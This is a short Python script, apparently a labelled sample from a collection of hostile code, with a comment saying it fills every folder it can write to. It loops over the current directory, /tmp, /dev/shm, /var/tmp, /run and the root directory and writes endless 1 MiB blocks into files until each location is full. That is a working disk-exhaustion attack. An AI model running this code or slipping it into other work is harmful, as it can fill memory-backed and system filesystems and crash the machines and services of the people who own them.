# It fills every folder it can write to.
# sample: yes
# score: 7 = double + shift + table
# %% first
import os

for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/"):
    for number in range(10_000):
        try:
            with open(os.path.join(place, f"hostile-mark-{number}"), "wb") as file:
                while True:
                    file.write(b"x" * (1 << 20))
        except OSError:
            break
